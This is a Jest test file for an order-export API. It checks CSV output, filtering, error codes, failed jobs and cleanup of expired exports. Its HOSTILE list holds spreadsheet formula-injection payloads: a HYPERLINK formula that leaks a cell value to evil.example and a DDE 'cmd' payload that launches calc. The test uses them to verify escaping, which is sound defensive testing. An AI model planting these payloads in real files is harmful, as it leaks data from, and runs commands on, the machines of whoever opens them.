import { existsSync } from 'node:fs';
import { mkdir, utimes, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { config } from '../src/config';
import { Order, OrderExport } from '../src/models';
import { queueExport } from '../src/queues/export-jobs';
import { createExport } from '../src/services/exports/order-exports';
import { eventually, useTestApp } from './helpers/test-app';
import { as } from './helpers/tokens';
import { peersEnv, startWorkerProcess } from './helpers/worker-process';

const t = useTestApp({ workers: ['exports'] });
const admin = () => as('admin');
const HEADER = [
  'orderId',
  'orderDate',
  'status',
  'customerId',
  'customerEmail',
  'customerName',
  'itemCount',
  'totalAmount',
  'cancelledAt',
  'shippedCarrier',
  'trackingNumber',
];
// Names a customer could give, each aimed at a spreadsheet or at a naive CSV writer.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+91 98450 12345',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\tTabbed Name',
  'Doe, "Jr."\r\nSecond line',
  'Ünïcødé 名前 Ω',
];
/**
 * Each hostile name and carrier field as a spreadsheet must read it, written out by hand (not
 * by the rule under test): a leading = + - @ tab or CR is shown as text behind a quote.
 */
const AS_CELL: Record<string, string> = {
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")': `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
  '+91 98450 12345': "'+91 98450 12345",
  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)': "'@SUM(A1:A9)",
  '\tTabbed Name': "'\tTabbed Name",
  'Doe, "Jr."\r\nSecond line': 'Doe, "Jr."\r\nSecond line',
  'Ünïcødé 名前 Ω': 'Ünïcødé 名前 Ω',
  '=Evil Carrier': "'=Evil Carrier",
  '-BD123': "'-BD123",
};
const cellOf = (v: string): string => AS_CELL[v] ?? v;
const inMarch = (i: number) => new Date(Date.UTC(2026, 2, 1 + (i % 31), i % 24, i % 60, i % 60));

/**
 * Arranges `n` orders straight through the model (validated as the API writes them), each a
 * copy of one placed through the API with its own id, date, amount, status and customer.
 */
async function seedOrders(n: number, shape: (i: number) => Record<string, unknown>): Promise<void> {
  const template = await Order.findOne({ orderId: await t.as('alice').placeOrder() }).lean();
  if (!template) throw new Error('the template order is missing');
  const { _id, ...fields } = template;
  const seeded = await Order.countDocuments();
  const docs = Array.from({ length: n }, (_, k) => {
    const orderId = `ORD-2026-${String(900_000 + seeded + k).padStart(6, '0')}`;
    return { ...fields, orderId, idempotencyKey: `seeded:${orderId}`, ...shape(k) };
  });
  await Order.insertMany(docs, { ordered: true });
}

/** The export once its job has finished, completed or not. */
const finished = (exportId: string) =>
  eventually(
    async () => {
      const res = await request(t.app).get(`/api/orders/exports/${exportId}`).set(admin());
      return ['completed', 'failed'].includes(res.body.data?.state) ? res.body.data : null;
    },
    60_000,
    `export ${exportId} to finish`,
  );

/** Every order id `GET /api/orders` lists for these filters, page by page. */
async function listed(filters: Record<string, string>): Promise<string[]> {
  const ids: string[] = [];
  for (let page = 1; page <= 100; page++) {
    const res = await request(t.app)
      .get('/api/orders')
      .query({ ...filters, limit: '50', page: String(page) })
      .set(admin());
    if (res.status !== 200) throw new Error(`listing answered ${res.status}`);
    ids.push(...res.body.data.orders.map((o: { orderId: string }) => o.orderId));
    if (!res.body.data.pagination.hasNextPage) return ids;
  }
  throw new Error('the list has more than 100 pages');
}

describe('order exports', () => {
  it('exports the 1,000 orders the filters select as a CSV that parses back to exactly the listed orders, hostile names quoted and formula-escaped', async () => {
    await seedOrders(1000, (i) => {
      const status = ['Placed', 'Processing', 'Shipped', 'Cancelled'][i % 4];
      return {
        orderDate: inMarch(i),
        totalAmount: 50_000 + i * 100, // ₹500.00 to ₹1,499.00
        status,
        customerName: i % 10 === 0 ? HOSTILE[(i / 10) % HOSTILE.length] : `Customer ${i}`,
        customerEmail: `buyer${i}@example.com`,
        customerId: i % 7 === 0 ? null : `c-${i}`,
        cancelledAt: status === 'Cancelled' ? new Date(inMarch(i).getTime() + 3_600_000) : null,
        shipment:
          status === 'Shipped'
            ? {
                carrier: i % 8 === 2 ? '=Evil Carrier' : 'Blue Dart',
                trackingNumber: i % 8 === 2 ? '-BD123' : `BD-${i}`,
                trackingUrl: null,
                shippedAt: inMarch(i),
              }
            : null,
      };
    });
    // Decoys: one day too late, or too cheap.
    await seedOrders(150, (i) => ({ orderDate: new Date(Date.UTC(2026, 3, 1, 0, 0, i)), totalAmount: 60_000 }));
    await seedOrders(50, (i) => ({ orderDate: inMarch(i), totalAmount: 49_999 }));
    const filters = { from: '2026-03-01', to: '2026-03-31', minAmount: '500', maxAmount: '2000' };

    const queued = await request(t.app)
      .post('/api/orders/exports')
      .set(admin())
      .send({ format: 'csv', from: filters.from, to: filters.to, minAmount: 500, maxAmount: 2000 });
    expect(queued.status).toBe(202);
    const done = await finished(queued.body.data.exportId);
    const file = await request(t.app).get(`/api/orders/exports/${done.exportId}/download`).set(admin()).buffer(true);

    expect(done).toMatchObject({ state: 'completed', rowCount: 1000, progress: { done: 1000, total: 1000 } });
    expect(Date.parse(done.expiresAt) - Date.parse(done.createdAt)).toBe(24 * 3_600_000);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(file.headers['content-disposition']).toBe(`attachment; filename=orders-${done.exportId}.csv`);
    const [header, ...rows] = parse(file.text, { relax_column_count: false }) as string[][];
    expect(header).toEqual(HEADER);
    expect(rows.map((r) => r[0]).sort()).toEqual((await listed(filters)).sort());

    const orders = new Map(
      (await Order.find({ orderId: { $in: rows.map((r) => r[0]) } }).lean()).map((o) => [o.orderId, o]),
    );
    for (const row of rows) {
      const o = orders.get(row[0]);
      expect(row).toEqual([
        o?.orderId,
        o?.orderDate.toISOString(),
        o?.status,
        o?.customerId ?? '',
        o?.customerEmail,
        cellOf(o?.customerName ?? ''),
        String(o?.itemCount),
        ((o?.totalAmount ?? 0) / 100).toFixed(2),
        o?.cancelledAt ? o.cancelledAt.toISOString() : '',
        o?.shipment ? cellOf(o.shipment.carrier) : '',
        o?.shipment ? cellOf(o.shipment.trackingNumber) : '',
      ]);
    }
    // Every hostile name came back as text, and the file says so in RFC 4180 terms.
    const names = new Set(rows.map((r) => r[5]));
    expect(Object.keys(AS_CELL)).toEqual(expect.arrayContaining(HOSTILE));
    for (const name of HOSTILE) expect(names).toContain(cellOf(name));
    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(file.text).toContain('"Doe, ""Jr.""\r\nSecond line"');
    expect(file.text).toContain(",'-BD123\r\n");
    expect(file.text.endsWith('\r\n')).toBe(true);
  });

  it('answers 409 for the file of an export not yet done, 404 for one that does not exist, and 400 for a bad request, in the envelope', async () => {
    const pending = await createExport(
      { userId: 'admin-1', role: 'Administrator' },
      { format: 'csv' },
      t.services.settings,
    );

    const early = await request(t.app).get(`/api/orders/exports/${pending._id}/download`).set(admin());
    const status = await request(t.app).get(`/api/orders/exports/${pending._id}`).set(admin());
    const unknown = await request(t.app)
      .get(`/api/orders/exports/exp_${'0'.repeat(24)}/download`)
      .set(admin());

    expect(early.status).toBe(409);
    expect(early.body).toMatchObject({
      success: false,
      errors: [{ field: 'state', message: expect.stringContaining('queued') }],
    });
    expect(status.body.data).toMatchObject({ state: 'queued', rowCount: null, progress: { done: 0, total: 0 } });
    expect(unknown.status).toBe(404);
    for (const body of [
      { format: 'xlsx' },
      {},
      { format: 'csv', minAmount: 10, maxAmount: 5 },
      { format: 'csv', from: 'yesterday' },
      { format: 'csv', status: 'Lost' },
      { format: 'csv', extra: 1 },
    ]) {
      const res = await request(t.app).post('/api/orders/exports').set(admin()).send(body);
      expect(res.status).toBe(400);
      expect(res.body.success).toBe(false);
    }
    expect((await request(t.app).get('/api/orders/exports/nope').set(admin())).status).toBe(400);
  });

  it('says failed, with the reason, once the job has spent its attempts on a file it cannot write', async () => {
    const doomed = await createExport(
      { userId: 'admin-1', role: 'Administrator' },
      { format: 'csv' },
      t.services.settings,
    );
    // A directory where the finished file must go: every attempt's rename fails.
    await mkdir(join(resolve(config.EXPORT_DIR), `${doomed._id}.csv`, 'in-the-way'), { recursive: true });

    await queueExport(t.queues, doomed._id);

    const done = await finished(doomed._id);
    const file = await request(t.app).get(`/api/orders/exports/${doomed._id}/download`).set(admin());
    expect(done).toMatchObject({ state: 'failed', error: expect.stringMatching(/EISDIR|ENOTEMPTY|EEXIST/) });
    expect(file.status).toBe(409);
    expect(file.body.errors[0].message).toContain('Export failed');
  });

  it('removes an expired export and its file on the scheduled maintenance, and leaves the others', async () => {
    const dir = resolve(config.EXPORT_DIR);
    const exportOf = async (body: object) =>
      finished(
        (
          await request(t.app)
            .post('/api/orders/exports')
            .set(admin())
            .send({ format: 'csv', ...body })
        ).body.data.exportId,
      );
    const [old, fresh] = [await exportOf({ status: 'Placed' }), await exportOf({ status: 'Shipped' })];
    await OrderExport.updateOne({ _id: old.exportId }, { $set: { expiresAt: new Date(Date.now() - 1000) } });
    // A part file of a run that died two days ago, which no record owns.
    await mkdir(dir, { recursive: true });
    const stale = join(dir, `exp_${'a'.repeat(24)}.csv.0123456789ab.part`);
    await writeFile(stale, 'orderId\r\n');
    await utimes(stale, new Date(Date.now() - 48 * 3_600_000), new Date(Date.now() - 48 * 3_600_000));

    expect((await request(t.app).get(`/api/orders/exports/${old.exportId}`).set(admin())).status).toBe(404);
    const worker = await startWorkerProcess({ ...peersEnv(t), WORKERS: 'upkeep', MAINTENANCE_INTERVAL_MS: '300' });
    t.onClose(() => worker.kill());
    await eventually(
      async () => (await OrderExport.exists({ _id: old.exportId })) === null,
      20_000,
      'the expired export to be removed',
    );

    expect(existsSync(join(dir, `${old.exportId}.csv`))).toBe(false);
    expect(existsSync(stale)).toBe(false);
    expect(existsSync(join(dir, `${fresh.exportId}.csv`))).toBe(true);
    expect((await request(t.app).get(`/api/orders/exports/${fresh.exportId}/download`).set(admin())).status).toBe(200);
  });
});
